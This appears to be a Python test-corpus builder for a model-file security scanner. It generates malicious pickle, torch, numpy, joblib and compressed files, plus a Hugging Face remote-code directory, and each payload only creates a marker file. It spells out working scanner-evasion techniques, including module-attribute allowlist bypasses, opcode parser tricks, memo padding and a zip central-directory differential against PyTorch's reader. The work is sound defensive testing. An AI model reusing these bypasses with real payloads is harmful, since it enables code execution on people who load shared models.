"""Malicious model files built from issue 18's classes, each one proven to run its payload when
its REAL loader opens it (``sandbox.run_loader`` in a throw-away subprocess).

Every payload does one harmless thing: it creates the marker file named when the corpus is built
(``touch MARKER`` through a shell, or ``open(MARKER, 'w')`` from Python). ``build(root, marker)``
writes the files and returns their descriptions; ``bench/bench_scan.py`` and
``tests/scan/test_attacks.py`` both use it. Nothing here is ever loaded in the test process.
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Attack:
    name: str  # one line: the class of bypass
    file: str  # path under the corpus root (a directory for model-directory attacks)
    loader: (
        str  # sandbox.py loader: pickle torch numpy joblib gzip-pickle zstd-pickle hf-remote-code
    )
    klass: str  # issue 18's class


def _u(s: str) -> bytes:
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def stack_global_call(module: str, name: str, *args: str) -> bytes:
    """Protocol 4: STACK_GLOBAL module name, call it with string args, STOP."""
    body = _u(module) + _u(name) + b"\x93" + b"(" + b"".join(_u(a) for a in args) + b"tR."
    return b"\x80\x04" + body


def proto0_call(module: str, name: str, arg: str) -> bytes:
    return f"c{module}\n{name}\n(S{arg!r}\ntR.".encode()


def _shell(marker: Path) -> str:
    return f"touch {marker}"


def _py(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _dotted_through_module(marker: Path) -> bytes:
    # find_class resolves a dotted name by getattr from the module (protocol 4+):
    # logging has ``os`` as an attribute, so ``logging`` + ``os.system`` is os.system.
    return stack_global_call("logging", "os.system", _shell(marker))


def _torch_submodule_os(marker: Path) -> bytes:
    return stack_global_call("torch.serialization", "os.system", _shell(marker))


def _unpickler_by_module_path(marker: Path) -> bytes:
    inner = proto0_call("os", "system", _shell(marker))
    # torch.serialization.pickle.loads: an unpickling function reached through a module path.
    out = b"\x80\x04" + _u("torch.serialization") + _u("pickle.loads") + b"\x93("
    out += b"C" + bytes([len(inner)]) + inner  # SHORT_BINBYTES: the inner pickle
    return out + b"tR."


def _subinterpreter(marker: Path) -> bytes:
    # _xxsubinterpreters: an interpreter-internal module whose run_string executes source.
    out = b"\x80\x04" + _u("_xxsubinterpreters") + _u("create") + b"\x93)R\x94"
    out += _u("_xxsubinterpreters") + _u("run_string") + b"\x93"
    out += b"(h\x00" + _u(_py(marker)) + b"tR."
    return out


def _sympify(marker: Path) -> bytes:
    # sympy.sympify evaluates its string argument as Python.
    return stack_global_call("sympy", "sympify", f"__import__('os').system({_shell(marker)!r})")


def _no_proto_hex_int(marker: Path) -> bytes:
    # No PROTO opcode, and an INT written as a Python literal (_pickle.c: strtol base 0).
    return b"I0x1f\n0" + proto0_call("os", "system", _shell(marker))


def _no_proto_octal_long(marker: Path) -> bytes:
    return b"L0o17\n0I1_000\n0" + proto0_call("os", "system", _shell(marker))


def _memo_padding(marker: Path) -> bytes:
    # More memo entries than the scanner kept (CPython has no limit), then the payload.
    pad = bytearray(b"\x80\x02N")
    for i in range((1 << 21) + 5):
        pad += b"r" + struct.pack("<I", i)
    pad += b"0"
    return bytes(pad) + proto0_call("os", "system", _shell(marker))[:-1] + b"."


def _gzip_multistream(marker: Path) -> bytes:
    # Two gzip members: gzip.open (and joblib) read both; a one-stream reader sees half.
    payload = proto0_call("os", "system", _shell(marker))
    return gzip.compress(payload[:6]) + gzip.compress(payload[6:])


def _lz4_joblib(marker: Path) -> bytes:
    import lz4.frame

    return lz4.frame.compress(proto0_call("os", "system", _shell(marker)))


def _zstd_pickle(marker: Path) -> bytes:
    import zstandard

    return zstandard.ZstdCompressor().compress(proto0_call("os", "system", _shell(marker)))


def _joblib_legacy_zfile(marker: Path) -> bytes:
    data = proto0_call("os", "system", _shell(marker))
    return b"ZF" + f"{len(data):#x}".ljust(19).encode() + zlib.compress(data)


def _npy_object_spelled_out(marker: Path) -> bytes:
    header = "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(117) + "\n"
    return (
        b"\x93NUMPY\x01\x00"
        + struct.pack("<H", len(header))
        + header.encode()
        + (proto0_call("os", "system", _shell(marker)))
    )


def _npy_object_in_comma_string(marker: Path) -> bytes:
    header = "{'descr': 'i4,O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(117) + "\n"
    return (
        b"\x93NUMPY\x01\x00"
        + struct.pack("<H", len(header))
        + header.encode()
        + (proto0_call("os", "system", _shell(marker)))
    )


def _torch_zip_classic(marker: Path) -> bytes:
    # Control: the textbook payload in a torch zip (every scanner should catch it).
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", proto0_call("os", "system", _shell(marker)))
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


def _zip_parts(pkl: bytes) -> tuple[bytes, bytes, bytes]:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", pkl)
        z.writestr("archive/version", "3\n")
    data = buf.getvalue()
    end = data.rfind(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack_from("<II", data, end + 12)
    return data[:cd_offset], data[cd_offset : cd_offset + cd_size], data[end:]


def torch_zipfile_differential(evil: bytes, benign: bytes) -> bytes:
    """A file that ``zipfile`` reads as one archive and PyTorch's reader (miniz) as another.

    Layout: [evil members][evil central directory][benign members][benign central directory]
    [end record whose central-directory offset points at the EVIL directory]. zipfile sees the
    directory is not where the record says, shifts every offset by the gap and reads the benign
    archive; miniz uses the offsets as written and loads the evil ``data.pkl``."""
    n = max(len(evil), len(benign))
    evil, benign = evil.ljust(n, b" "), benign.ljust(n, b" ")  # bytes after STOP are ignored
    ev_local, ev_cd, _ = _zip_parts(evil)
    bn_local, bn_cd, bn_end = _zip_parts(benign)
    end = bytearray(bn_end)
    struct.pack_into("<I", end, 16, len(ev_local))
    return ev_local + ev_cd + bn_local + bn_cd + bytes(end)


def _torch_zip_cd_shift(marker: Path) -> bytes:
    import pickle

    evil = proto0_call("os", "system", _shell(marker))
    return torch_zipfile_differential(evil, pickle.dumps({"w": 1}, protocol=2))


def _remote_code_dir(root: Path, marker: Path) -> None:
    # config.json's auto_map makes transformers import modeling_evil.py (trust_remote_code).
    root.mkdir(parents=True, exist_ok=True)
    (root / "config.json").write_text(
        json.dumps(
            {
                "model_type": "evil",
                "architectures": ["EvilModel"],
                "auto_map": {"AutoConfig": "modeling_evil.EvilConfig"},
            }
        )
    )
    (root / "modeling_evil.py").write_text(
        "from transformers import PretrainedConfig\n"
        f"open({str(marker)!r}, 'w').close()\n\n"
        "class EvilConfig(PretrainedConfig):\n    model_type = 'evil'\n"
    )


_FILES: list[tuple[Attack, Callable[[Path], bytes]]] = [
    (
        Attack("dotted name through a module attribute", "dotted.pkl", "pickle", "allowlist"),
        _dotted_through_module,
    ),
    (
        Attack("torch.<submodule>.os.system", "submodule_os.pt", "torch", "allowlist"),
        _torch_submodule_os,
    ),
    (
        Attack("unpickler reached by module path", "nested_loads.pt", "torch", "allowlist"),
        _unpickler_by_module_path,
    ),
    (
        Attack("interpreter-internal module", "subinterp.pkl", "pickle", "allowlist"),
        _subinterpreter,
    ),
    (Attack("maths library evaluates a string", "sympify.pkl", "pickle", "allowlist"), _sympify),
    (Attack("no PROTO, INT as hex literal", "hexint.pkl", "pickle", "parser"), _no_proto_hex_int),
    (
        Attack("no PROTO, LONG octal and INT with _", "octal.pkl", "pickle", "parser"),
        _no_proto_octal_long,
    ),
    (
        Attack("memo padding past the scanner's limit", "memo_pad.pkl", "pickle", "parser"),
        _memo_padding,
    ),
    (Attack("gzip with two members", "multi.pkl.gz", "gzip-pickle", "parser"), _gzip_multistream),
    (Attack("lz4 frame (joblib)", "model.pkl.lz4", "joblib", "format"), _lz4_joblib),
    (Attack("zstd frame", "model.pkl.zst", "zstd-pickle", "format"), _zstd_pickle),
    (Attack("joblib legacy ZF container", "legacy.pkl", "joblib", "format"), _joblib_legacy_zfile),
    (Attack("npy descr 'object'", "obj_word.npy", "numpy", "parser"), _npy_object_spelled_out),
    (Attack("npy descr 'i4,O'", "obj_comma.npy", "numpy", "parser"), _npy_object_in_comma_string),
    (
        Attack("torch reader and zipfile see different archives", "cd_shift.pt", "torch", "parser"),
        _torch_zip_cd_shift,
    ),
    (
        Attack("control: os.system in a torch zip", "classic.pt", "torch", "control"),
        _torch_zip_classic,
    ),
]
_DIRS: list[tuple[Attack, Callable[[Path, Path], None]]] = [
    (Attack("auto_map remote code", "remote_code", "hf-remote-code", "format"), _remote_code_dir),
]


def build(root: Path, marker: Path) -> list[Attack]:
    root.mkdir(parents=True, exist_ok=True)
    out = []
    for attack, make in _FILES:
        (root / attack.file).write_bytes(make(marker))
        out.append(attack)
    for attack, make_dir in _DIRS:
        make_dir(root / attack.file, marker)
        out.append(attack)
    return out
